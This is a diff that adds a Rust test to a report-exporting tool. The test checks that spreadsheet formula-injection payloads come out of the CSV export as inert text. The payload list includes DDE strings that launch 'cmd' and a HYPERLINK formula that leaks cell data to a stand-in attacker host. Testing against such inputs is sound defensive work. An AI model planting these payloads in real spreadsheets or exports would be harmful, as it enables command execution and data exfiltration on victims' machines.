@@ -588,3 +588,53 @@ fn html_rows_carry_consistent_sort_ranks() {
         assert!(html.contains(css), "{css}");
     }
 }
+
+/// OWASP's formula-injection payloads in every text field a report controls.
+#[test]
+fn csv_formula_corpus_stays_inert() {
+    let s = imported();
+    let payloads = [
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+        "%0A=1+1",
+    ];
+    let entries: Vec<Value> = payloads
+        .iter()
+        .enumerate()
+        .map(|(i, p)| {
+            serde_json::json!({"code": format!("DL{}", 3000 + i), "level": "warning", "line": i + 1, "column": 1,
+                "file": p, "message": p})
+        })
+        .collect();
+    let path = s.dir.join("formulas.json");
+    std::fs::write(&path, Value::Array(entries).to_string()).unwrap();
+    s.ok(&["import", path.to_str().unwrap()]);
+    let text = export(&s, "csv");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let mut live = 0;
+    let mut seen = 0;
+    for row in reader.records() {
+        for cell in row.unwrap().iter() {
+            if payloads
+                .iter()
+                .any(|p| cell.contains(p.trim_start_matches(['\t', '\r'])))
+            {
+                seen += 1;
+            }
+            if cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']) {
+                live += 1;
+            }
+        }
+    }
+    assert!(
+        seen >= payloads.len(),
+        "the payloads are kept as text ({seen})"
+    );
+    assert_eq!(live, 0, "no cell a spreadsheet would evaluate");
+}
